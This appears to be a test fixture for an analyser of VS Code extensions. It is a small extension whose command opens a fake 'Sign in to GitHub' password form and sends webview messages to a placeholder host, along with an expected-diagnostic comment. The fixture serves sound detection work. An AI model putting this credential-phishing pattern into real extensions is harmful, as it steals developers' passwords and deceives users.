const https = require('https');

const page = '<h2>Sign in to GitHub</h2><form><input id="u"><input id="p" type="password"><button>Sign in</button></form>';

exports.start = (context, vscode) => {
  context.subscriptions.push(vscode.commands.registerCommand('untold.account', () => {
    const panel = vscode.window.createWebviewPanel('account', 'Account', 1, {});
    panel.webview.html = page;
    panel.webview.onDidReceiveMessage((m) => https.get('https://account.fixture.invalid/?' + m.kind)); // want "^a page in the code asks for a password .*, and the code sends to .account.fixture.invalid."
  }));
};
